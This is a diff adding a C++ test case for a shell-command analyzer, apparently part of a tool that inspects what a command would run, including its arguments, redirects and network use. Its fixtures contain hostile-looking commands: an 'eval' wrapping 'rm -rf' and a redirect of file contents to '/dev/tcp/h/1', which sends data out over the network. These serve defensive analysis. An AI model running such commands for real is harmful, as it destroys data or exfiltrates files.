@@ -413,3 +413,31 @@ TEST_CASE("the fast path for plain lists agrees with the full parser", "[shell]"
     }
     CHECK(compared == texts.size());
 }
+
+TEST_CASE("what_runs answers what a command would run; to_json renders an analysis", "[shell]") {
+    const auto r = claw::shell::what_runs("timeout 5 git -C \"$D\" status && eval 'rm -rf x'");
+    CHECK(r.complete);
+    std::vector<std::string> names;
+    for (const auto& c : r.commands) names.push_back(c.name);
+    CHECK(names == std::vector<std::string>{"timeout", "git", "eval", "rm"});
+    CHECK(r.commands[0].transparent);
+    CHECK(r.commands[1].argv == std::vector<std::string>{"git", "-C", "\"$D\"", "status"});
+    CHECK(r.commands[1].literal == std::vector<bool>{true, true, false, true});
+    const auto bad = claw::shell::what_runs("echo 'open");
+    CHECK_FALSE(bad.complete);
+    CHECK(bad.reason == "syntax error");
+
+    analysis& a = fresh();
+    claw::shell::analyze("FOO=1 cat <in \"$X\" > /dev/tcp/h/1; cd d", a);
+    const auto v = boost::json::parse(claw::shell::to_json(a)).as_object();
+    CHECK(v.at("complete").as_bool());
+    const auto& cmds = v.at("commands").as_array();
+    REQUIRE(cmds.size() == 2);
+    CHECK(cmds[0].at("name").as_string() == "cat");
+    CHECK(cmds[0].at("argv").as_array()[1].at("literal").as_bool() == false);
+    CHECK(cmds[0].at("assignments").as_array()[0].at("name").as_string() == "FOO");
+    const auto& redirects = v.at("redirects").as_array();
+    REQUIRE(redirects.size() == 2);
+    CHECK(redirects[1].at("network").as_bool());
+    CHECK(v.at("cwds").as_array().size() == 3);
+}
